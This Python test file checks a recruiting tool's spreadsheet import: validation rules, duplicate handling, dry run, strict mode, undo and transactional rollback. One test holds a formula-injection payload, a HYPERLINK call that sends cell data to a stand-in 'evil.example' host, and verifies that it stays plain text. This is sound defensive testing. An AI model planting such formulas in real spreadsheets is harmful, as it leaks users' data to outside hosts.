"""The import service: every row rule, duplicates, dry run, strict mode, undo, atomicity."""

from __future__ import annotations

import json
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from recruiter.domain.identity import orcid_check_char
from recruiter.errors import ConflictError, NotFound, RecruiterError, ValidationError
from recruiter.services import importing
from recruiter.services.importing import ImportOptions, StrictImportFailed
from recruiter.store.database import Database
from tests.sheets import write_xlsx

DATA = Path(__file__).parent.parent / "data"
HEAD = [
    "姓名",
    "英文名",
    "电子邮箱",
    "ORCID",
    "博士毕业年份",
    "h-index",
    "出生日期",
    "手机",
    "现工作单位",
]


def orcid(n: int) -> str:
    digits = f"{n:015d}"
    full = digits + orcid_check_char(digits)
    return "-".join(full[i : i + 4] for i in range(0, 16, 4))


def person(
    name: str = "Wei Zhang",
    email: str | None = None,
    orc: str | None = None,
    phd: Any = 2010,
    h: Any = 12,
    born: Any = date(1985, 3, 14),
    phone: Any = 13800138000,
    inst: str | None = "Fudan University",
    zh: str | None = None,
) -> list[Any]:
    return [zh, name, email, orc, phd, h, born, phone, inst]


def sheet(
    tmp_path: Path, rows: list[list[Any]], name: str = "list.xlsx", head: list[str] | None = None
) -> Path:
    return write_xlsx(tmp_path / name, [["2024 人才推荐名单"], [], head or HEAD, *rows])


def q(db: Database, sql: str, **params: Any) -> list[tuple[Any, ...]]:
    with db.engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(sql), params)]


def count(db: Database, table: str) -> int:
    return q(db, f"SELECT count(*) FROM {table}")[0][0]


def state(db: Database) -> dict[str, Any]:
    """Everything an import may touch, to compare before and after (less a row's `version`,
    which moves on with an undo too: store/versions.py)."""
    tables = ["candidate", "import_batch", "audit_entry", "application", "stage_event", "setting"]
    with db.engine.connect() as conn:
        return {
            t: [
                tuple(v for k, v in r._mapping.items() if k != "version")
                for r in conn.execute(text(f"SELECT * FROM {t} ORDER BY 1"))
            ]
            for t in tables
        }


def add_candidate(db: Database, **values: Any) -> int:
    from recruiter.domain.identity import person_key

    row = {
        "full_name": "Someone",
        "email": None,
        "orcid": None,
        "phone": None,
        "current_institution": None,
        "name_zh": None,
        "research_area": None,
        "created_at": "2024-01-01 00:00:00.000000",
        "updated_at": "2024-01-01 00:00:00.000000",
    } | values
    row["person_key"] = person_key(row["full_name"], row["name_zh"], row["current_institution"])
    cols = ", ".join(row)
    with db.engine.begin() as conn:
        return conn.execute(
            text(
                f"INSERT INTO candidate ({cols}) VALUES ({', '.join(':' + k for k in row)}) "
                "RETURNING id"
            ),
            row,
        ).scalar_one()


def add_target(db: Database) -> int:
    with db.engine.begin() as conn:
        inst = conn.execute(
            text("INSERT INTO institution (name) VALUES ('Fudan') RETURNING id")
        ).scalar_one()
        return conn.execute(
            text(
                "INSERT INTO target (institution_id, title, headcount, status, created_at) "
                "VALUES (:i, 'Professor of Physics', 1, 'open', '2024-01-01 00:00:00') RETURNING id"
            ),
            {"i": inst},
        ).scalar_one()


def check_counts(summary: importing.ImportSummary) -> None:
    assert summary.rows == summary.created + summary.updated + summary.duplicates + summary.invalid
    assert summary.possible_duplicates <= summary.created


# --- a plain import ----------------------------------------------------------------------------


@pytest.mark.sqlite_only(reason="compares SQLite's stored text of dates")
def test_import_creates_candidates_with_clean_values(db: Database, tmp_path: Path) -> None:
    path = sheet(
        tmp_path,
        [
            person("Wei Zhang", "Wei.Zhang@Example.edu ", orcid(1), 2005.0, 12.0, zh="张伟"),
            [None] * 9,
            person(
                "Na Li",
                "na.li@example.edu",
                None,
                "2012",
                "7",
                "2024年5月1日",
                "+86 139 0000 0000",
                "Wuhan University",
            ),
        ],
    )
    s = importing.run_import(db, path)
    check_counts(s)
    assert s.as_json() == {
        "rows": 2,
        "created": 2,
        "updated": 0,
        "duplicates": 0,
        "possible_duplicates": 0,
        "invalid": 0,
        "batch_id": s.batch_id,
        "dry_run": False,
    }
    rows = q(
        db,
        "SELECT full_name, name_zh, email, orcid, phd_year, h_index, birth_date, phone,"
        " current_institution, source, import_batch_id, person_key FROM candidate "
        "ORDER BY id",
    )
    assert rows == [
        (
            "Wei Zhang",
            "张伟",
            "Wei.Zhang@Example.edu",
            orcid(1),
            2005,
            12,
            "1985-03-14",
            "13800138000",
            "Fudan University",
            "list.xlsx",
            s.batch_id,
            "wei zhang|fudan university",
        ),
        (
            "Na Li",
            None,
            "na.li@example.edu",
            None,
            2012,
            7,
            "2024-05-01",
            "+86 139 0000 0000",
            "Wuhan University",
            "list.xlsx",
            s.batch_id,
            "li na|wuhan university",
        ),
    ]
    batch = q(
        db,
        "SELECT file_name, rows, created, updated, invalid, duplicates, "
        "possible_duplicates, source, undone_at, length(sha256) FROM import_batch",
    )
    assert batch == [("list.xlsx", 2, 2, 0, 0, 0, 0, "list.xlsx", None, 64)]
    audit = q(db, "SELECT entity, entity_id, action, user, changes FROM audit_entry ORDER BY id")
    ids = [o.candidate_id for o in s.outcomes]
    assert [a[:4] for a in audit] == [
        *[("candidate", i, "import_create", "tester") for i in ids],
        ("import_batch", s.batch_id, "import", "tester"),
    ]
    assert json.loads(audit[-1][4])["created"] == 2
    assert [o.row for o in s.outcomes] == [4, 6]  # rows as the spreadsheet numbers them


def test_chinese_name_only_and_latin_name_in_chinese_column(db: Database, tmp_path: Path) -> None:
    path = sheet(
        tmp_path,
        [
            person(name=None, zh="王芳"),  # type: ignore[arg-type]
            person(name=None, zh="John Smith", inst="MIT"),
        ],
    )  # type: ignore
    s = importing.run_import(db, path)
    assert s.created == 2
    assert q(db, "SELECT full_name, name_zh FROM candidate ORDER BY id") == [
        ("王芳", "王芳"),
        ("John Smith", None),
    ]


def test_source_option_and_source_column(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "refs.xlsx", [["Name", "推荐人"], ["A One", "Prof. Li"], ["B Two", None]]
    )
    importing.run_import(db, path, ImportOptions(source="Talent programme 2024"))
    assert q(db, "SELECT source FROM candidate ORDER BY id") == [
        ("Prof. Li",),
        ("Talent programme 2024",),
    ]


# --- invalid rows ------------------------------------------------------------------------------

NEXT_YEAR = date.today().year + 1


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (person(name=None), "No name"),  # type: ignore[arg-type]
        (person(email="not-an-email"), "E-mail 'not-an-email' is not a valid address"),
        (person(email="a@b"), "is not a valid address"),
        (person(orc="0000-0002-1825-0098"), "check digit is wrong"),
        (person(orc="1234-5678"), "16 digits in 4 groups"),
        (person(phd=1949), "PhD year 1949 is not between 1950"),
        (
            person(phd=NEXT_YEAR + 1),
            f"PhD year {NEXT_YEAR + 1} is not between 1950 and {NEXT_YEAR}",
        ),
        (person(phd="soon"), "PhD year 'soon' is not a year"),
        (person(h=-1), "h-index -1 is negative"),
        (person(h=3.5), "h-index '3.5' is not a whole number"),
        (person(h="many"), "h-index 'many' is not a whole number"),
        (person(born=date.today() + timedelta(days=1)), "is in the future"),
        (person(born="05/06/1980"), "ambiguous"),
        (person(name=None, email="bad"), "No name: fill the Name or Chinese name column; E-mail"),  # type: ignore
    ],
)
def test_invalid_rows_are_rejected_with_a_reason(
    db: Database, tmp_path: Path, row: list[Any], reason: str
) -> None:
    path = sheet(tmp_path, [person("Good Row", "good@example.edu"), row])
    s = importing.run_import(db, path)
    check_counts(s)
    assert (s.created, s.invalid) == (1, 1)
    bad = s.outcomes[1]
    assert bad.status == "invalid" and bad.row == 5
    assert reason in (bad.reason or "")
    assert q(db, "SELECT full_name FROM candidate") == [("Good Row",)]
    assert q(db, "SELECT invalid FROM import_batch") == [(1,)]


def test_orcid_url_and_phd_year_bounds_are_accepted(db: Database, tmp_path: Path) -> None:
    path = sheet(
        tmp_path,
        [
            person("A", orc="https://orcid.org/0000-0002-1825-0097", phd=1950),
            person("B", orc="0000-0002-1694-233x", phd=NEXT_YEAR, h=0),
        ],
    )
    s = importing.run_import(db, path)
    assert (s.created, s.invalid) == (2, 0)
    assert q(db, "SELECT orcid, phd_year FROM candidate ORDER BY id") == [
        ("0000-0002-1825-0097", 1950),
        ("0000-0002-1694-233X", NEXT_YEAR),
    ]


# --- duplicates --------------------------------------------------------------------------------


def test_duplicates_of_stored_candidates_are_skipped(db: Database, tmp_path: Path) -> None:
    a = add_candidate(db, full_name="Stored A", email="Alpha@Example.edu")
    b = add_candidate(db, full_name="Stored B", orcid=orcid(7))
    path = sheet(
        tmp_path,
        [
            person("Row A", " alpha@EXAMPLE.edu "),
            person("Row B", "other@example.edu", "https://orcid.org/" + orcid(7)),
            person("Row C", "c@example.edu"),
        ],
    )
    s = importing.run_import(db, path)
    check_counts(s)
    assert (s.rows, s.created, s.duplicates) == (3, 1, 2)
    assert [(o.status, o.match_id) for o in s.outcomes[:2]] == [("duplicate", a), ("duplicate", b)]
    # The person is named, not only numbered.
    assert s.outcomes[0].reason == f"Same e-mail as Stored A (candidate {a})"
    assert s.outcomes[1].reason == f"Same ORCID as Stored B (candidate {b})"
    assert count(db, "candidate") == 3
    assert q(db, "SELECT full_name FROM candidate WHERE id IN (:a, :b) ORDER BY id", a=a, b=b) == [
        ("Stored A",),
        ("Stored B",),
    ]


def test_duplicates_within_the_file(db: Database, tmp_path: Path) -> None:
    path = sheet(
        tmp_path,
        [
            person("First", "same@example.edu"),
            person("Second", "SAME@example.edu"),
            person("Third", "t@example.edu", orcid(3)),
            person("Fourth", "f@example.edu", orcid(3)),
        ],
    )
    s = importing.run_import(db, path)
    assert [(o.status, o.match_row) for o in s.outcomes] == [
        ("new", None),
        ("duplicate", 4),
        ("new", None),
        ("duplicate", 6),
    ]
    assert [o.match_id for o in s.outcomes[1::2]] == [o.candidate_id for o in s.outcomes[::2]]
    assert q(db, "SELECT full_name FROM candidate ORDER BY id") == [("First",), ("Third",)]


def test_update_fills_only_empty_fields_and_undo_restores(db: Database, tmp_path: Path) -> None:
    cid = add_candidate(
        db,
        full_name="Wei Zhang",
        email="wz@example.edu",
        phone=None,
        current_institution="Old University",
    )
    before = state(db)
    path = sheet(
        tmp_path, [person("Wei ZHANG", "WZ@example.edu", phone="+86 1", inst="New University")]
    )
    s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
    check_counts(s)
    assert (s.updated, s.created, s.outcomes[0].status) == (1, 0, "update")
    assert q(
        db, "SELECT full_name, email, phone, current_institution, phd_year, h_index FROM candidate"
    ) == [("Wei Zhang", "wz@example.edu", "+86 1", "Old University", 2010, 12)]
    audit = q(db, "SELECT entity, entity_id, action, changes FROM audit_entry ORDER BY id")
    assert ("candidate", cid, "import_update") == audit[0][:3]
    assert json.loads(audit[0][3])["phone"] == [None, "+86 1"]
    importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
    assert state(db)["candidate"] == before["candidate"]  # every field, updated_at too
    assert q(db, "SELECT phone, phd_year, h_index, birth_date FROM candidate") == [
        (None, None, None, None)
    ]
    assert q(db, "SELECT undone_at IS NOT NULL FROM import_batch") == [(1,)]


def test_overwrite_replaces_with_non_empty_values(db: Database, tmp_path: Path) -> None:
    add_candidate(
        db,
        full_name="Wei Zhang",
        email="wz@example.edu",
        phone="111",
        current_institution="Old University",
        research_area="Optics",
    )
    path = sheet(
        tmp_path, [person("Wei Zhang", "wz@example.edu", phone=None, inst="New University")]
    )
    s = importing.run_import(db, path, ImportOptions(on_duplicate="overwrite"))
    assert s.updated == 1
    assert q(db, "SELECT phone, current_institution, research_area, person_key FROM candidate") == [
        ("111", "New University", "Optics", "wei zhang|new university")
    ]
    importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
    assert q(db, "SELECT phone, current_institution, person_key FROM candidate") == [
        ("111", "Old University", "wei zhang|old university")
    ]


def test_update_with_nothing_new_counts_as_duplicate(db: Database, tmp_path: Path) -> None:
    path = sheet(tmp_path, [person("Wei Zhang", "wz@example.edu")])
    importing.run_import(db, path)
    s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
    assert (s.updated, s.duplicates) == (0, 1)
    assert s.outcomes[0].reason == "Already up to date"


def test_update_merges_in_file_duplicates_into_the_new_candidate(
    db: Database, tmp_path: Path
) -> None:
    path = sheet(
        tmp_path,
        [
            person("Wei Zhang", "wz@example.edu", phone=None),
            person("Wei Zhang", "wz@example.edu", phone="555"),
        ],
    )
    s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
    assert (s.created, s.updated) == (1, 1)
    assert q(db, "SELECT phone FROM candidate") == [("555",)]


def test_update_refuses_an_email_that_belongs_to_someone_else(db: Database, tmp_path: Path) -> None:
    a = add_candidate(db, full_name="A", orcid=orcid(1))
    b = add_candidate(db, full_name="B", email="b@example.edu")
    path = sheet(tmp_path, [person("A", "b@example.edu", orcid(1))])
    s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
    assert s.outcomes[0].status == "invalid"
    assert f"belongs to B (candidate {b}), not to A (candidate {a})" in (s.outcomes[0].reason or "")
    assert q(db, "SELECT email FROM candidate WHERE id = :a", a=a) == [(None,)]


def test_possible_duplicates_are_created_and_point_at_what_they_resemble(
    db: Database, tmp_path: Path
) -> None:
    stored = add_candidate(db, full_name="Zhang Wei", current_institution="Fudan University")
    path = sheet(
        tmp_path,
        [
            person("Wei  ZHANG", "w1@example.edu", inst="the Fudan University"),
            person("Li Na", "n1@example.edu", inst="MIT"),
            person("Na Li", "n2@example.edu", inst="MIT"),
            person("Na Li", "n3@example.edu", inst=None),
            person("Na Li", "n4@example.edu", inst=None),
        ],
    )
    s = importing.run_import(db, path)
    check_counts(s)
    assert [o.status for o in s.outcomes] == [
        "possible_duplicate",
        "new",
        "possible_duplicate",
        "new",
        "new",
    ]
    assert (s.created, s.possible_duplicates) == (5, 2)
    assert s.outcomes[0].match_id == stored
    assert s.outcomes[2].match_row == 5 and s.outcomes[2].match_id == s.outcomes[1].candidate_id
    assert s.outcomes[0].reason == f"Same name and institution as Zhang Wei (candidate {stored})"
    assert s.outcomes[2].reason == "Same name and institution as Li Na (row 5)"
    assert count(db, "candidate") == 6


# --- dry run, strict, undo ---------------------------------------------------------------------


def test_dry_run_writes_nothing(db: Database, tmp_path: Path) -> None:
    before = state(db)
    path = sheet(tmp_path, [person("A", "a@example.edu"), person(name=None)])  # type: ignore
    s = importing.run_import(db, path, ImportOptions(dry_run=True))
    assert s.as_json() == {
        "rows": 2,
        "created": 1,
        "updated": 0,
        "duplicates": 0,
        "possible_duplicates": 0,
        "invalid": 1,
        "batch_id": None,
        "dry_run": True,
    }
    assert state(db) == before


def test_strict_writes_nothing_when_a_row_is_invalid(db: Database, tmp_path: Path) -> None:
    before = state(db)
    path = sheet(tmp_path, [person("A", "a@example.edu"), person("B", "bad")])
    with pytest.raises(StrictImportFailed, match="1 of 2 rows are invalid") as info:
        importing.run_import(db, path, ImportOptions(strict=True))
    assert info.value.summary.invalid == 1
    assert state(db) == before
    ok = sheet(tmp_path, [person("A", "a@example.edu")], name="ok.xlsx")
    assert importing.run_import(db, ok, ImportOptions(strict=True)).created == 1


def test_undo_deletes_created_candidates_and_their_applications(
    db: Database, tmp_path: Path
) -> None:
    target = add_target(db)
    existing = add_candidate(db, full_name="Old", email="old@example.edu")
    before = state(db)
    path = sheet(
        tmp_path,
        [
            person("A", "a@example.edu"),
            person("B", "b@example.edu"),
            person("Old", "old@example.edu", phone="9"),
        ],
    )
    s = importing.run_import(db, path, ImportOptions(target_id=target, on_duplicate="update"))
    assert (s.created, s.updated) == (2, 1)
    apps = q(db, "SELECT candidate_id, stage, outcome FROM application ORDER BY candidate_id")
    assert len(apps) == 3 and {a[1:] for a in apps} == {("identified", "active")}
    assert existing in {a[0] for a in apps}
    assert count(db, "stage_event") == 3
    assert q(db, "SELECT DISTINCT to_stage FROM stage_event") == [("identified",)]
    undo = importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
    assert (undo.deleted, undo.restored) == (2, 1)
    after = state(db)
    for t in ("candidate", "application", "stage_event", "setting"):
        if t == "setting":
            continue  # the remembered mapping stays
        assert after[t] == before[t], t
    assert q(db, "SELECT action FROM audit_entry WHERE entity = 'import_batch' ORDER BY id") == [
        ("import",),
        ("undo",),
    ]
    with pytest.raises(ConflictError, match="already undone"):
        importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
    with pytest.raises(NotFound, match="does not exist"):
        importing.undo_import(db, 999)


def test_unknown_target_is_refused_before_anything_is_written(db: Database, tmp_path: Path) -> None:
    before = state(db)
    with pytest.raises(NotFound, match="Target 42 does not exist"):
        importing.run_import(db, sheet(tmp_path, [person()]), ImportOptions(target_id=42))
    assert state(db) == before


# --- mapping -----------------------------------------------------------------------------------


def test_mapping_is_remembered_for_the_same_headers(db: Database, tmp_path: Path) -> None:
    head = ["Who", "Mail", "Affil", "Colour"]
    path = write_xlsx(tmp_path / "a.xlsx", [head, ["A One", "a@x.edu", "MIT", "red"]])
    with pytest.raises(
        RecruiterError, match=r"No column of the sheet 'Sheet1' of a.xlsx maps to a name"
    ):
        importing.preview(db, path)
    mapping = {"Who": "full_name", "Mail": "email", "Affil": "current_institution", "Colour": None}
    importing.run_import(db, path, ImportOptions(mapping=mapping))
    assert count(db, "setting") == 1
    second = write_xlsx(tmp_path / "b.xlsx", [head, ["B Two", "b@x.edu", "ETH", "blue"]])
    assert importing.mapping_for(db, head) == mapping
    s = importing.run_import(db, second)
    assert s.created == 1
    assert q(db, "SELECT full_name, email, current_institution FROM candidate ORDER BY id") == [
        ("A One", "a@x.edu", "MIT"),
        ("B Two", "b@x.edu", "ETH"),
    ]
    assert s.unmapped == ["Colour"]


def test_unmapped_columns_can_be_kept_in_notes(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "a.xlsx",
        [
            ["Name", "备注", "Hobby", "Shoe size"],
            ["A One", "met in Wuhan", "chess", 42],
            ["B Two", None, None, None],
        ],
    )
    importing.run_import(db, path, ImportOptions(keep_unmapped=True))
    assert q(db, "SELECT notes FROM candidate ORDER BY id") == [
        ("met in Wuhan\nHobby: chess\nShoe size: 42",),
        (None,),
    ]


def test_bad_mappings_are_explained(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "a.xlsx", [["Name", "Mail", "Mail2"], ["A", "a@x.cn", "b@x.cn"]])
    with pytest.raises(ValidationError, match="Two columns are mapped to E-mail"):
        importing.preview(
            db,
            path,
            ImportOptions(mapping={"Name": "full_name", "Mail": "email", "Mail2": "email"}),
        )
    with pytest.raises(ValidationError, match="not candidate fields: salary"):
        importing.preview(db, path, ImportOptions(mapping={"Name": "salary"}))
    with pytest.raises(ValidationError, match="not a duplicate rule"):
        importing.preview(db, path, ImportOptions(on_duplicate="merge"))


# --- files -------------------------------------------------------------------------------------


@pytest.mark.sqlite_only(reason="compares SQLite's stored text of dates")
def test_gbk_csv_from_chinese_excel(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "名单.csv"
    path.write_bytes(
        "姓名,电子邮箱,手机,出生年月,现工作单位\r\n"
        "张伟,zw@example.edu,013800138000,1980.05,复旦大学\r\n"
        "李娜,ln@example.edu,13900000000,1982/3/4,武汉大学\r\n".encode("gbk")
    )
    s = importing.run_import(db, path)
    assert s.created == 2
    assert q(
        db, "SELECT full_name, phone, birth_date, current_institution FROM candidate ORDER BY id"
    ) == [
        ("张伟", "013800138000", "1980-05-01", "复旦大学"),
        ("李娜", "13900000000", "1982-03-04", "武汉大学"),
    ]


@pytest.mark.sqlite_only(reason="compares SQLite's stored text of dates")
@pytest.mark.parametrize("name", ["candidates.xls", "candidates.ods"])
def test_xls_and_ods(db: Database, name: str) -> None:
    s = importing.run_import(db, DATA / name)
    assert (s.created, s.invalid) == (2, 1)
    assert s.outcomes[2].row == 6
    assert q(
        db, "SELECT full_name, name_zh, birth_date, phd_year, phone FROM candidate ORDER BY id"
    ) == [
        ("Wei Zhang", "张伟", "1985-03-14", 2010, "13800138000"),
        ("Na Li", "李娜", "1988-07-02", 2015, "+86 139 0000 0000"),
    ]


def test_formula_looking_names_stay_plain_text(db: Database, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Zhang Wei")'
    csv = tmp_path / "f.csv"
    csv.write_text(
        f'Name,Email\n"{evil.replace(chr(34), chr(34) * 2)}",z@example.edu\n"=1+1",bad\n',
        encoding="utf-8",
    )
    s = importing.run_import(db, csv)
    assert q(db, "SELECT full_name FROM candidate") == [(evil,)]
    out = tmp_path / "rejected.xlsx"
    assert s.write_rejects(out) == 1
    ws = openpyxl.load_workbook(out).active
    assert ws["A2"].value == "=1+1" and ws["A2"].data_type == "s"


def test_rejected_rows_workbook_can_be_fixed_and_imported_again(
    db: Database, tmp_path: Path
) -> None:
    path = sheet(
        tmp_path,
        [
            person("A", "a@example.edu"),
            person("B", "broken"),
            person(name=None, email="c@example.edu"),
        ],
    )  # type: ignore
    s = importing.run_import(db, path)
    out = tmp_path / "rejected.xlsx"
    assert s.write_rejects(out) == 2
    ws = openpyxl.load_workbook(out).active
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == [*HEAD, "Row", "Reason"]
    assert [r[-2] for r in rows[1:]] == [5, 6]
    assert rows[1][1] == "B" and rows[1][2] == "broken" and "E-mail" in rows[1][-1]
    assert rows[1][7] == 13800138000  # numbers keep their type
    assert rows[2][-1].startswith("No name")
    ws["C2"] = "b@example.edu"
    ws["B3"] = "C Fixed"
    ws.parent.save(out)
    again = importing.run_import(db, out)
    assert (again.created, again.invalid) == (2, 0)
    assert count(db, "candidate") == 3


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"%PDF-1.4\x00\x01\x02 binary", "not a spreadsheet"),
        (b"PK\x03\x04 corrupt zip", "damaged"),
        (b"\x01\x02\x03,\x04\n", "No column"),
    ],
)
def test_bad_files_write_nothing(
    db: Database, tmp_path: Path, content: bytes, message: str
) -> None:
    before = state(db)
    path = tmp_path / "file.xlsx" if content.startswith(b"PK") else tmp_path / "file.csv"
    if content.startswith(b"%PDF"):
        path = tmp_path / "file.pdf"
    path.write_bytes(content)
    with pytest.raises(RecruiterError, match=message):
        importing.run_import(db, path)
    assert state(db) == before


# --- atomicity ---------------------------------------------------------------------------------


def test_an_error_halfway_leaves_the_database_unchanged(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_candidate(db, full_name="Old", email="old@example.edu")
    target = add_target(db)
    before = state(db)
    monkeypatch.setattr(importing.model, "CHUNK", 3)
    rows = [person(f"P{i}", f"p{i}@example.edu") for i in range(10)]
    rows.append(person("Old", "old@example.edu", phone="1"))
    path = sheet(tmp_path, rows)
    seen: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> None:
        seen.append((done, total))
        if done > total * 0.6:  # in the middle of the inserts
            assert count(db, "candidate") == 1  # other connections see nothing yet
            raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError, match="disk on fire"):
        importing.run_import(
            db, path, ImportOptions(target_id=target, on_duplicate="update"), progress=progress
        )
    assert state(db) == before
    assert seen[-1][0] < seen[-1][1]


@pytest.mark.sqlite_only(reason="SQLite's journal (test_team covers the server)")
def test_a_killed_process_leaves_the_database_unchanged(db: Database, tmp_path: Path) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    add_candidate(db, full_name="Old", email="old@example.edu")
    before = state(db)
    path = sheet(tmp_path, [person(f"P{i}", f"p{i}@example.edu") for i in range(400)])
    marker = tmp_path / "halfway"
    code = (
        "import time\n"
        "from recruiter.store.opening import open_database\n"
        "from recruiter.services import importing\n"
        "importing.model.CHUNK = 50\n"
        f"db = open_database({str(db.path)!r}, user='doomed')\n"
        "def progress(done, total):\n"
        "    if done > total // 2 + 60:\n"
        f"        open({str(marker)!r}, 'w').close()\n"
        "        time.sleep(60)\n"
        f"importing.run_import(db, {str(path)!r}, progress=progress)\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", code], cwd=Path(__file__).parents[2])
    try:
        deadline = time.monotonic() + 30
        while not marker.exists():
            assert proc.poll() is None, "the import ended before it was killed"
            assert time.monotonic() < deadline
            time.sleep(0.02)
        os.kill(proc.pid, signal.SIGKILL)  # mid-import, with rows inserted but not committed
    finally:
        proc.wait(10)
    assert state(db) == before
    assert q(db, "PRAGMA integrity_check") == [("ok",)]


def test_cancel_rolls_back(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = state(db)
    monkeypatch.setattr(importing.model, "CHUNK", 2)
    path = sheet(tmp_path, [person(f"P{i}", f"p{i}@example.edu") for i in range(9)])
    calls = iter(range(100))
    with pytest.raises(importing.ImportCancelled, match="Nothing was written"):
        importing.run_import(db, path, cancelled=lambda: next(calls) >= 2)
    assert state(db) == before


def test_a_constraint_violation_is_explained_and_rolled_back(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = state(db)
    real = importing.checking.Checker.load_index
    # Simulate another writer that stored the same e-mail after the checks were made.
    monkeypatch.setattr(
        importing.checking.Checker,
        "load_index",
        lambda self: (
            real(self),
            self.conn.execute(
                text(
                    "INSERT INTO candidate (full_name, email, created_at, updated_at) VALUES "
                    "('Ghost', 'a@example.edu', '2024-01-01', '2024-01-01')"
                )
            ),
        )[0],
    )
    with pytest.raises(ConflictError, match="Nothing was imported"):
        importing.run_import(db, sheet(tmp_path, [person("A", "a@example.edu")]))
    assert state(db) == before


# --- random sheets -----------------------------------------------------------------------------

_cells = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.integers(-10, 3000),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(
        [
            "张伟",
            "a@b.cn",
            "A@B.CN",
            "0000-0002-1825-0097",
            "2024-05-01",
            "=1+1",
            "Fudan",
            "1980.05",
            " ",
            "05/06/2024",
            "https://orcid.org/0000-0002-1694-233X",
        ]
    ),
    st.dates(date(1890, 1, 1), date(2100, 1, 1)),
)
_headers = st.lists(
    st.sampled_from(
        [
            "姓名",
            "Name",
            "Email",
            "邮箱",
            "ORCID",
            "h-index",
            "博士毕业年份",
            "出生日期",
            "现工作单位",
            "电话",
            "x",
            "",
        ]
    ),
    min_size=1,
    max_size=6,
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    head=_headers,
    body=st.lists(st.lists(_cells, max_size=7), max_size=8),
    mode=st.sampled_from(importing.ON_DUPLICATE),
    as_csv=st.booleans(),
)
def test_random_sheets_never_crash(
    db: Database, tmp_path: Path, head: list[str], body: list[list[Any]], mode: str, as_csv: bool
) -> None:
    if as_csv:
        import csv

        path = tmp_path / "random.csv"
        with path.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows([head, *body])
    else:
        path = write_xlsx(tmp_path / "random.xlsx", [head, *body])
    before = count(db, "candidate")
    try:
        s = importing.run_import(db, path, ImportOptions(on_duplicate=mode))
    except RecruiterError as exc:
        assert str(exc) and "\n" not in str(exc)
        assert count(db, "candidate") == before
        return
    check_counts(s)
    assert count(db, "candidate") == before + s.created
    assert all(o.reason for o in s.outcomes if o.status == "invalid")


def test_undo_refuses_when_work_was_recorded_since(db: Database, tmp_path: Path) -> None:
    from recruiter.domain.enums import Stage
    from recruiter.services import applications

    target = add_target(db)
    path = sheet(tmp_path, [person("A", "a@example.edu"), person("B", "b@example.edu")])
    s = importing.run_import(db, path, ImportOptions(target_id=target))
    (app_id,) = q(db, "SELECT min(id) FROM application")[0]
    applications.move(db, app_id, Stage.contacted)
    before = state(db)
    with pytest.raises(ConflictError, match="1 stage change"):
        importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
    assert state(db) == before
    assert q(db, "SELECT undone_at FROM import_batch") == [(None,)]


def test_undo_keeps_edits_made_after_the_import(db: Database, tmp_path: Path) -> None:
    from recruiter.services import candidates

    cid = add_candidate(db, full_name="Wei Zhang", email="wz@example.edu", phone=None)
    path = sheet(tmp_path, [person("Wei Zhang", "wz@example.edu", phone="+86 1", inst="MIT")])
    s = importing.run_import(db, path, ImportOptions(on_duplicate="update"))
    assert s.updated == 1
    candidates.update(db, cid, phone="+86 2")  # corrected by hand later
    undo = importing.undo_import(db, s.batch_id)  # type: ignore[arg-type]
    assert undo.restored == 1
    assert q(db, "SELECT phone, current_institution FROM candidate") == [("+86 2", None)]


def test_a_duplicate_within_the_file_names_the_earlier_row(db: Database, tmp_path: Path) -> None:
    path = sheet(
        tmp_path,
        [person("Wei Zhang", "wz@example.edu"), person("W. Zhang", "WZ@example.edu")],
    )
    s = importing.run_import(db, path)
    assert s.outcomes[1].status == "duplicate"
    assert s.outcomes[1].reason == f"Same e-mail as Wei Zhang (row {s.outcomes[0].row})"
